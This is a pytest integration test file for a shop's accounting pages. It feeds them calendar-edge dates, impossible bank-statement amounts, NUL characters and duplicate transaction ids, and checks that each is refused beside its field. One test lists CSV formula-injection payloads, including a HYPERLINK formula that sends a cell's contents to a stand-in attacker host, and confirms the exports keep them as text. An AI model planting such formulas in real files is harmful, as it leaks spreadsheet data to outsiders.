"""The books' new pages attacked as a careless user and a hostile file would: days at the
edge of the calendar, amounts no bank could hold, and each answers beside its field with
nothing changed, never a 500."""

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa

from shop.accounting import chart
from shop.accounting import services as books
from shop.accounting.models import JournalEntry
from shop.banking import matching
from shop.banking.errors import BankingError
from shop.banking.models import BankLine, BankStatement
from shop.clock import store_today
from shop.csv_export import PLAIN_NUMBER
from shop.extensions import db
from shop.formatting import local_date
from shop.payables import models as m
from tests.integration.backoffice_helpers import errors_beside, text_of
from tests.integration.bank_files import camt053, ofx
from tests.integration.checkout_helpers import seed_reference_data
from tests.integration.payables_helpers import enter, received_po
from tests.integration.test_bank_reconciliation import ACCOUNT, nothing_imported, upload
from tests.integration.test_supplier_bill_pages import bill_form

FIRST_DAY, LAST_DAY = "0001-01-01", "9999-12-31"  # what date.fromisoformat() still reads


@pytest.mark.parametrize("day", [FIRST_DAY, LAST_DAY])
@pytest.mark.parametrize(
    "url, field",
    [
        ("/admin/accounting/profit-and-loss?compare=y&date_from={d}&date_to={d}", "date_from"),
        ("/admin/accounting/profit-and-loss?compare=y&date_from={d}&date_to={d}&format=csv", None),
        ("/admin/accounting/balance-sheet?at={d}", "at"),
        ("/admin/accounting/balance-sheet?at={d}&format=csv", None),
        ("/admin/accounting/tax-returns?frequency=annual&day={d}", "day"),
        ("/admin/accounting/tax-returns?frequency=monthly&day={d}&form=gst&format=csv", None),
    ],
)
def test_a_statement_for_a_day_at_the_calendar_edge_says_so_beside_the_field(
    bookkeeper, url, field, day
):
    response = bookkeeper.get(url.format(d=day))
    assert response.status_code == 200
    if field:
        [message] = errors_beside(text_of(response), field)
        assert message == "Choose a day from 1900-01-01 to 2999-12-31."


def _camt(amount: str, on: date = date(2026, 11, 2), account: str = ACCOUNT) -> bytes:
    return camt053(
        account=account, start=min(on, date(2026, 11, 1)), end=max(on, date(2026, 11, 2)),
        opening="0.00", closing="1.00", entries=[("R1", on, amount, "BOOK", "ODD", "E1")],
    )  # fmt: skip


def _ofx(amount: str, on: date = date(2026, 11, 2)) -> bytes:
    return ofx(
        account=ACCOUNT, start=date(2026, 11, 1), end=date(2026, 11, 2), closing="1.00",
        lines=[("F1", on, amount, "DEBIT", "ODD", "ODD", None)],
    )  # fmt: skip


@pytest.mark.parametrize(
    "file, says",
    [
        (_camt("99999999999999999999.00"), "is more than a bank statement holds"),
        (_camt("Infinity"), "is not an amount"),
        (_camt("NaN"), "is not an amount"),
        (_ofx("1e30"), "is more than a bank statement holds"),
        (_camt("1.00", on=date(9999, 12, 31)), "is not a day a bank statement holds"),
        (_camt("1.00", on=date(1, 1, 1)), "is not a day a bank statement holds"),
        (_ofx("-1.00", on=date(9999, 12, 31)), "is not a day a bank statement holds"),
        (_camt("1.00", account="9" * 61), "The account number"),
        (_camt("1.00").replace(b">1.00</Amt>", b">-1.00</Amt>"), "is not an amount"),
    ],
)
def test_a_statement_with_impossible_figures_is_refused_beside_the_file(bookkeeper, file, says):
    response = upload(bookkeeper, file, "odd.xml")
    assert response.status_code == 422
    [message] = errors_beside(text_of(response), "file")
    assert says in message and "Nothing was imported" in message
    nothing_imported()


# --- supplier bills and payments: days no bill or payment has ------------------------------


@pytest.fixture
def classes(app):
    return seed_reference_data()


def _entries() -> int:
    return db.session.scalar(sa.select(sa.func.count(JournalEntry.id)))


def test_a_bill_dated_in_year_one_is_refused_beside_the_date(classes, bookkeeper):
    po = received_po(classes, quantity=10, unit_cost=1200)
    before = _entries()
    typed = bill_form(po, bill_date="0001-01-01", post="1")
    response = bookkeeper.post(f"/admin/purchase-orders/{po.id}/bill", data=typed)
    assert response.status_code == 422
    assert errors_beside(text_of(response), "bill_date") == [
        "Choose a day from 1900-01-01 to 2999-12-31."
    ]
    assert db.session.scalar(sa.select(sa.func.count(m.SupplierBill.id))) == 0
    assert _entries() == before


def test_a_payment_or_its_schedule_before_the_bill_is_refused_beside_the_date(classes, bookkeeper):
    po = received_po(classes, quantity=10, unit_cost=1200)
    bill = enter(po, "SUP-1", quantity=5, bill_date=store_today() - timedelta(days=3))
    before = _entries()
    day_before = (bill.bill_date - timedelta(days=1)).isoformat()
    for early, said in (
        ("0001-01-01", "Choose a day from 1900-01-01 to 2999-12-31."),
        (day_before, f"before the bill's date, {local_date(bill.bill_date)};"),
    ):
        paid = {"paid_on": early, "method": "cheque", "reference": "7", "amount": "1.00"}
        response = bookkeeper.post(f"/admin/bills/{bill.id}/pay", data=paid)
        assert response.status_code == 422
        [message] = errors_beside(text_of(response), "paid_on")
        assert said in message
        response = bookkeeper.post(f"/admin/bills/{bill.id}/schedule", data={"pay_on": early})
        assert response.status_code == 422
        [message] = errors_beside(text_of(response), "pay_on")
        assert said in message
    db.session.refresh(bill)
    assert (bill.amount_paid, bill.pay_on, bill.payments, _entries()) == (0, None, [], before)


# --- a bank line posted as its own entry: never to an account its records keep --------------

KEPT_BY_RECORDS = [
    chart.INVENTORY, chart.RECEIVED_NOT_BILLED, chart.PAYABLE, chart.CLEARING,
    chart.tax_role("GST"), chart.itc_role("HST"),
]  # fmt: skip


@pytest.mark.parametrize("role", KEPT_BY_RECORDS)
def test_a_bank_line_cannot_post_to_an_account_its_records_keep(bookkeeper, role):
    """Bank / inventory (or accounts payable, clearing, tax) would leave the month-end check
    of that account off by the amount: the supplier payment or payout is recorded instead."""
    assert upload(bookkeeper, _ofx("-15.00"), "fee.ofx").status_code == 302
    fee = db.session.scalar(sa.select(BankLine))
    kept = books.account_for(role)
    page = text_of(bookkeeper.get(f"/admin/accounting/bank/{fee.statement_id}"))
    assert f'<option value="{kept.id}">' not in page
    before = _entries()
    response = bookkeeper.post(
        f"/admin/accounting/bank/lines/{fee.id}/post", data={f"own{fee.id}-account_id": kept.id}
    )
    assert response.status_code == 302
    assert _entries() == before and db.session.get(BankLine, fee.id).journal_line_id is None
    with pytest.raises(BankingError) as refused:
        matching.post_own_entry(fee, account=kept, user=None)
    assert refused.value.field == "account_id" and kept.name in refused.value.message
    assert _entries() == before


# --- the new CSV files: a supplier named like a formula stays text --------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_supplier_named_like_a_formula_is_text_in_every_new_csv(classes, bookkeeper, name):
    po = received_po(classes, quantity=10, unit_cost=1200)
    po.supplier.name = name
    db.session.commit()
    bill = enter(po, name, quantity=5, bill_date=store_today() - timedelta(days=40))
    for url in (
        "/admin/payables/aging.csv",
        "/admin/accounting/journal-quickbooks.csv",
        "/admin/accounting/journal-xero.csv",
    ):
        response = bookkeeper.get(url)
        assert response.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(text_of(response))) for cell in row]
        assert any(name in cell for cell in cells), url
        risky = [c for c in cells if c[:1] and c[0] in "=+-@" and not PLAIN_NUMBER.fullmatch(c)]
        assert risky == [], url
    assert bill.supplier.name == name


def test_a_file_naming_one_transaction_twice_says_so(bookkeeper):
    """Two lines with one bank id in a file: both cannot be kept, and dropping one would lose
    money; the file is refused and the message says why (not "someone else importing")."""
    twice = ofx(
        account=ACCOUNT, start=date(2026, 11, 1), end=date(2026, 11, 2), closing="-20.00",
        lines=[
            ("F1", date(2026, 11, 1), "-5.00", "DEBIT", "FEE", "A", None),
            ("F1", date(2026, 11, 2), "-15.00", "DEBIT", "FEE", "B", None),
        ],
    )  # fmt: skip
    response = upload(bookkeeper, twice, "twice.ofx")
    assert response.status_code == 422
    [message] = errors_beside(text_of(response), "file")
    assert "transaction id F1 twice" in message and "Nothing was imported" in message
    nothing_imported()


def test_a_nul_character_in_a_statement_or_its_name_is_not_a_server_error(bookkeeper):
    """PostgreSQL text cannot hold NUL: a file with one in a name or the account is refused,
    and a file name with one is kept without it."""
    for plain, hostile in ((b"<NAME>ODD", b"<NAME>OD\x00D"), (b"<ACCTID>", b"<ACCTID>\x00")):
        file = _ofx("-1.00").replace(plain, hostile)
        response = upload(bookkeeper, file, "nul.ofx")
        assert response.status_code == 422
        [message] = errors_beside(text_of(response), "file")
        assert "NUL character" in message and "Nothing was imported" in message
        nothing_imported()
    assert upload(bookkeeper, _ofx("-1.00"), "state\x00ment.ofx").status_code == 302
    assert db.session.scalar(sa.select(BankStatement.filename)) == "statement.ofx"


def test_tax_collected_up_to_the_calendar_s_last_day_is_not_a_server_error(bookkeeper):
    response = bookkeeper.get(f"/admin/accounting/tax?date_from={FIRST_DAY}&date_to={LAST_DAY}")
    assert response.status_code == 200
